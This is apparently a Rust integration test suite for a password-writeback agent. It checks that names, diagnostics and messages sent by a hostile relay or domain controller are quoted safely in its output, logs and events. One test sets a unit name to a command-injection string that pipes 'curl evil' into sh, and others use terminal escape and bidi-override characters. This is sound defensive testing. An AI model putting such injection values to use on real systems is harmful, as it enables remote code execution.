//! What a relay, a domain controller and a portal write never leaves `writeback-agent` as it is: every call that shows
//! something of theirs, its log in both forms, its event log, and what it sends on.

use std::path::{Path, PathBuf};

use tempfile::TempDir;
use writeback_relay::agent::home::Home;
use writeback_relay::protocol::enrolment_code::EnrolmentCode;
use writeback_relay::protocol::frame::{FromAgent, FromRelay, v1};
use writeback_relay::storage::PrivateFile;

use crate::support::cli::Cli;
use crate::support::fake_dc::FakeDc;
use crate::support::scripted_relay::ScriptedRelay;
use crate::support::untrusted::{
    at_a_terminal, file_is_fit_to_read, hidden, hostile, is_fit_to_read, private_file, problem,
};
use crate::support::{deadline, eventually};

const AGENT: &str = env!("CARGO_BIN_EXE_writeback-agent");
const SVC: &str = "svc@example.test";

struct Stage {
    relay: ScriptedRelay,
    dc: FakeDc,
    folder: TempDir,
    cli: Cli,
}

impl Stage {
    /// A hostile domain controller, and an agent that is enrolled.
    async fn new() -> Self {
        let (relay, dc) = (ScriptedRelay::start().await, FakeDc::offering(&[]).await);
        dc.calls_itself(&format!("DC={}", hostile("its-domain")), &hostile("its-name"));
        dc.answer(53, &hostile("0000001F: its-diagnostic"));
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("home")).unwrap();
        let cli = Cli::new(AGENT, &["--home", &folder.path().join("home").display().to_string()]);
        let stage = Self { relay, dc, folder, cli };
        PrivateFile::new(stage.home().join("password")).replace("Passw0rd").unwrap();
        stage.configure("json");
        stage
    }

    fn home(&self) -> PathBuf {
        self.folder.path().join("home")
    }

    fn configure(&self, log_format: &str) {
        let (dc, password) = (&self.dc, self.home().join("password"));
        let text = format!(
            "[relay]\nca_file = {:?}\n[directory]\nkind = \"active_directory\"\nurl = [{:?}]\nca_file = {:?}\nbind_user = \
             {SVC:?}\nbind_password_file = {password:?}\n[telemetry]\nlog_format = {log_format:?}\n",
            self.relay.ca_file, dc.url, dc.ca_file
        );
        std::fs::write(self.home().join("agent.toml"), text).unwrap();
    }

    async fn enrol(&self) {
        let code = self.relay.code().to_text().unwrap();
        let said = self.cli.run_with(&["enroll", "-"], code.as_bytes()).await;
        assert_eq!(said.status, 0, "{said:?}");
    }

    async fn says(&self, arguments: &[&str], input: &str, marks: &[&str]) {
        let said = self.cli.run_with(arguments, input.as_bytes()).await;
        is_fit_to_read(&format!("{arguments:?}"), &said.out, &[]);
        is_fit_to_read(&format!("{arguments:?}"), &said.err, &[]);
        is_fit_to_read(&format!("{arguments:?}"), &(said.out + &said.err), marks);
    }

    async fn shows(&self, arguments: &[&str], marks: &[&str]) {
        let home = self.home().display().to_string();
        at_a_terminal(AGENT, &[&["--home", &home], arguments].concat(), &[], marks).await;
    }

    /// Runs the agent until the relay sends it away: what it has logged.
    async fn runs(&self) -> String {
        let upgrades = self.relay.upgrades();
        self.relay.refuse_everything(Some(problem(None)));
        let running = self.cli.start(&["run"], b"");
        eventually("it was refused", async || self.relay.upgrades() > upgrades).await;
        self.relay.refuse_everything(None);
        let mut socket = self.relay.welcome_at(&hostile("its-node"), 1).await;
        let account = format!("{}@example.test", hidden("its-account"));
        self.dc.account_is(&account);
        let command = self.relay.unlock(&account);
        socket.say(self.relay.deliver(&command)).await;
        let outcome = self.relay.read(&socket.outcome().await.jws, &command);
        let detail = outcome.detail.as_data();
        is_fit_to_read("an outcome's detail", detail, &["its-diagnostic"]);
        socket.stored(&command).await;
        socket.say(FromRelay::Deliver(v1::Deliver { command_jws: hostile("its-command"), ..Default::default() })).await;
        socket.say(FromRelay::PortalRotation(v1::PortalRotation { jws: hostile("its-rotation") })).await;
        socket.say(FromRelay::Check(v1::Check {})).await;
        loop {
            if let FromAgent::Preflight(report) = socket.hear().await {
                let row =
                    report.rows.iter().find(|row| row.detail.contains("its-name")).expect("the name was looked at");
                is_fit_to_read("a finding", &row.detail, &["its-name"]);
                assert_eq!(row.remedy_code, "own_name");
                break;
            }
        }
        let reason = hostile("its-advice");
        socket.say(FromRelay::GoAway(v1::GoAway { reason, reconnect_after_ms: 1, close_after_ms: 60_000 })).await;
        let mut next = self.relay.session().await;
        next.welcome(&hostile("its-node"), 1).await;
        next.close_saying(4999, &hostile("its-farewell")).await;
        let said = deadline("the agent's end", running.said()).await;
        assert_eq!(said.status, 3, "{said:?}");
        is_fit_to_read("run", &said.out, &[]);
        said.err
    }
}

fn events(home: &Path) -> PathBuf {
    Home::new(home).events()
}

#[tokio::test]
async fn a_relays_problem_is_shown_quoted_by_every_call() {
    let stage = Stage::new().await;
    let code = stage.relay.code().to_text().unwrap();
    let said = ["its-title", "its-detail", "its-code"];
    stage.relay.refuse_everything(Some(problem(None)));
    stage.says(&["enroll", "-"], &code, &said).await;
    stage.shows(&["enroll", &code], &said).await;
    let (_folder, password) = private_file("Passw0rd");
    let setup = [
        ["setup", "--no-questions", "--despite-failures", "--code-file", "-", "--service-account", SVC],
        [
            "--relay-ca-file",
            &stage.relay.ca_file.display().to_string(),
            "--directory",
            &stage.dc.url,
            "--unit",
            "",
            "--",
        ],
    ];
    let files = [
        "--directory-ca-file",
        &stage.dc.ca_file.display().to_string(),
        "--service-account-password-file",
        &password.display().to_string(),
    ];
    let setup = [&setup[0][..], &setup[1][..6], &files].concat();
    stage.says(&setup, &code, &["its-detail", "its-name"]).await;

    stage.relay.refuse_everything(None);
    stage.configure("json");
    stage.enrol().await;
    stage.relay.refuse_everything(Some(problem(None)));
    let another = EnrolmentCode { portal: "portal-2".parse().unwrap(), ..stage.relay.code() };
    let code = another.to_text().unwrap();
    stage.says(&["trust", "-"], &code, &said).await;
    stage.relay.refuse_everything(Some(problem(Some("invitation_used"))));
    stage.says(&["trust", "-"], &code, &["The invitation was used (invitation_used)", "its-detail"]).await;
    // Last: new keys that the relay has not taken stand in the way of everything else.
    stage.relay.refuse_everything(Some(problem(None)));
    stage.says(&["rotate-keys"], "", &said).await;
    file_is_fit_to_read(&events(&stage.home()), &[]);
}

#[tokio::test]
async fn a_domain_controllers_names_and_diagnostics_are_shown_quoted_and_no_command_is_made_of_them() {
    let stage = Stage::new().await;
    stage.enrol().await;
    // Whether it is a relay is asked without an assertion.
    stage.relay.refuse_everything(Some(problem(None)));
    for call in [["check"].as_slice(), &["check", "--json"]] {
        stage.says(call, "", &["its-name", "its-domain"]).await;
        stage.shows(call, &["its-name", "its-domain"]).await;
    }
    stage.says(&["grant"], "", &[]).await;
    // What a shell or PowerShell would run, in the name of a unit.
    stage.dc.calls_itself("OU=$(curl evil|sh)`id`\"&calc,DC=example,DC=test", "localhost");
    let commands = stage.cli.run(&["grant"]).await.out;
    let windows = commands.lines().filter(|line| line.trim_start().starts_with("dsacls"));
    let windows: Vec<_> = windows.collect();
    assert!(!windows.is_empty() && windows.iter().all(|line| !line.contains("curl")), "{commands}");
    let samba: Vec<_> = commands.lines().filter(|line| line.trim_start().starts_with("samba-tool")).collect();
    assert!(samba.iter().all(|line| line.contains("'OU=$(curl evil|sh)`id`\"&calc,DC=example,DC=test'")), "{commands}");
    stage.says(&["grant", "--apply", "admin@example.test"], "Passw0rd\n", &[]).await;
}

#[tokio::test]
async fn a_running_agents_log_and_events_hold_nothing_that_a_terminal_would_obey() {
    let stage = Stage::new().await;
    stage.enrol().await;
    let told = ["its-detail", "its-node", "its-account", "its-diagnostic", "its-advice", "its-farewell"];
    for format in ["json", "text"] {
        stage.configure(format);
        is_fit_to_read(format, &stage.runs().await, &told);
    }
    let told = ["its-detail", "its-node", "its-account", "its-diagnostic", "its-farewell"];
    file_is_fit_to_read(&events(&stage.home()), &told);
    let calls = [["status"].as_slice(), &["events"], &["events", "--json"], &["support-bundle", "-"]];
    // The status shows the last few events alone.
    for (call, told) in calls.into_iter().zip([["its-farewell"].as_slice(), &told, &told, &told]) {
        stage.says(call, "", told).await;
        stage.shows(call, told).await;
    }
    let bundle = stage.folder.path().join("bundle.txt");
    stage.says(&["support-bundle", &bundle.display().to_string()], "", &[]).await;
    file_is_fit_to_read(&bundle, &told);
}

#[tokio::test]
async fn what_stands_in_a_file_is_shown_quoted_when_it_is_refused() {
    let stage = Stage::new().await;
    stage.enrol().await;
    let toml = format!("[relay]\nca_file = 1\n[{:?}]\n\"its-key\u{202e}\" = 1\n", hidden("its-section"));
    std::fs::write(stage.home().join("agent.toml"), toml).unwrap();
    stage.says(&["check"], "", &[]).await;
    let identity = stage.home().join("identity.json");
    let text = std::fs::read_to_string(&identity).unwrap();
    let text = text.replace(
        "\"tenant\": \"contoso\"",
        &format!("\"its-field\u{202e}\u{9b}31m\": 1, \"tenant\": {:?}", hidden("t")),
    );
    PrivateFile::new(&identity).replace(&text).unwrap();
    for call in [["status"].as_slice(), &["support-bundle", "-"], &["rotate-keys"], &["run"]] {
        stage.says(call, "", &[]).await;
        stage.shows(call, &[]).await;
    }
    let folder = stage.folder.path().join(hidden("its-folder"));
    let call = ["--home", &folder.display().to_string(), "status"];
    let said = Cli::new(AGENT, &[]).run(&call).await;
    is_fit_to_read("a path", &said.err, &["its-folder"]);
}
